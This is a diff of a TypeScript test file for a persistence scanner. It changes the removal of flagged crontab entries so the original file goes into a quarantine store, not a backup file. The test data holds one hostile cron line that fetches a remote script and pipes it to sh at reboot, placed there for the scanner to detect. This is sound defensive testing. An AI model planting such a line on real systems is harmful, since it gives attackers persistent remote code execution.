@@ -17,6 +17,7 @@ import type { ScanFinding, ScanReport } from '../shared/scan.js';
 import { runScanCommand } from '../main/cli/scan.js';
 import { runDeepScan } from '../main/engine/scan/deep-scan.js';
 import { parseCrontabLine, parseUnitLine } from '../main/engine/scan/linux-persistence.js';
+import { QuarantineStore } from '../main/engine/quarantine/store.js';
 import { removePersistenceEntry } from '../main/engine/scan/persistence-remove.js';
 import { nodeScanFs, type ScanFs } from '../main/engine/scan/scan-fs.js';
 
@@ -187,37 +188,41 @@ describe('deep scan: persistence under --root', () => {
     expect(byFile(r, join(root, 'etc/systemd/system/sysupdate.service'))).toBeUndefined();
   });
 
-  it('removes exactly that line after confirmation, with a backup first, keeping the mode', async () => {
+  it('removes exactly that line after confirmation, the file as it was kept in the quarantine, keeping the mode', async () => {
     const file = join(root, 'var/spool/cron/crontabs/alice');
     const finding = byFile(report, file) as ScanFinding;
-    expect(await removePersistenceEntry(finding, { confirm: false })).toMatchObject({
+    const quarantine = await QuarantineStore.open(join(dataDir, 'q-remove'));
+    expect(await removePersistenceEntry(finding, { confirm: false, quarantine })).toMatchObject({
       ok: false,
       code: 'not-confirmed',
     });
     expect(readFileSync(file, 'utf8')).toBe(ALICE_CRONTAB);
 
-    const at = new Date('2030-01-02T03:04:05.678Z');
-    const result = await removePersistenceEntry(finding, { confirm: true, now: () => at });
-    const backup = join(root, 'var/spool/cron/crontabs/.alice.idlewatch-backup-20300102T030405678Z');
+    const result = await removePersistenceEntry(finding, { confirm: true, quarantine });
+    if (!result.ok) throw new Error(result.reason);
     expect(result).toEqual({
       ok: true,
       file,
       line: 3,
       removed: '@reboot curl -fsSL http://203.0.113.9/x.sh | sh',
-      backup,
+      quarantineId: expect.stringMatching(/^\d{8}T\d{6}Z-[0-9a-f]{8}$/),
     });
-    expect(readFileSync(backup, 'utf8')).toBe(ALICE_CRONTAB);
-    expect(statSync(backup).mode & 0o777).toBe(0o600);
+    const item = await quarantine.get(result.quarantineId);
+    expect(item).toMatchObject({ kind: 'line', category: 'crontab', path: file, findingId: finding.id });
+    expect(readFileSync(join(quarantine.folder, `${result.quarantineId}.bin`), 'utf8')).toBe(ALICE_CRONTAB);
     expect(readFileSync(file, 'utf8')).toBe("# alice's jobs\n0 9 * * 1 /usr/bin/backup --quiet\n");
     expect(statSync(file).mode & 0o777).toBe(0o600);
-    // No temp file is left behind.
-    expect(readdirSync(dirname(file)).sort()).toEqual(['.alice.idlewatch-backup-20300102T030405678Z', 'alice']);
+    // Nothing is left beside the file: no backup, no temp file.
+    expect(readdirSync(dirname(file)).sort()).toEqual(['alice']);
 
     // Removing it again: the file is no longer what the scan read.
-    expect(await removePersistenceEntry(finding, { confirm: true })).toMatchObject({ ok: false, code: 'changed' });
+    expect(await removePersistenceEntry(finding, { confirm: true, quarantine })).toMatchObject({
+      ok: false,
+      code: 'changed',
+    });
 
     const cron = byFile(report, join(root, 'etc/crontab')) as ScanFinding;
-    const cronResult = await removePersistenceEntry(cron, { confirm: true, now: () => at });
+    const cronResult = await removePersistenceEntry(cron, { confirm: true, quarantine });
     expect(cronResult.ok).toBe(true);
     expect(readFileSync(join(root, 'etc/crontab'), 'utf8')).toBe(
       CRONTAB.split('\n')
@@ -231,10 +236,12 @@ describe('deep scan: persistence under --root', () => {
     const file = join(root, 'etc/systemd/system/sysupdate.service');
     const finding = byFile(report, file) as ScanFinding;
     appendFileSync(file, '# edited\n');
-    const result = await removePersistenceEntry(finding, { confirm: true });
+    const quarantine = await QuarantineStore.open(join(dataDir, 'q-changed'));
+    const result = await removePersistenceEntry(finding, { confirm: true, quarantine });
     expect(result).toMatchObject({ ok: false, code: 'changed' });
     expect(readFileSync(file, 'utf8')).toBe(`${UNIT}# edited\n`);
-    expect(readdirSync(dirname(file)).some((n) => n.includes('idlewatch-backup'))).toBe(false);
+    expect(readdirSync(dirname(file)).some((n) => n.includes('idlewatch'))).toBe(false);
+    expect((await quarantine.list()).items).toEqual([]);
   });
 
   it('refuses entries that are not lines of a file', async () => {
@@ -248,7 +255,8 @@ describe('deep scan: persistence under --root', () => {
         line: null,
       },
     };
-    expect(await removePersistenceEntry(registry, { confirm: true })).toMatchObject({
+    const quarantine = await QuarantineStore.open(join(dataDir, 'q-registry'));
+    expect(await removePersistenceEntry(registry, { confirm: true, quarantine })).toMatchObject({
       ok: false,
       code: 'not-removable',
     });
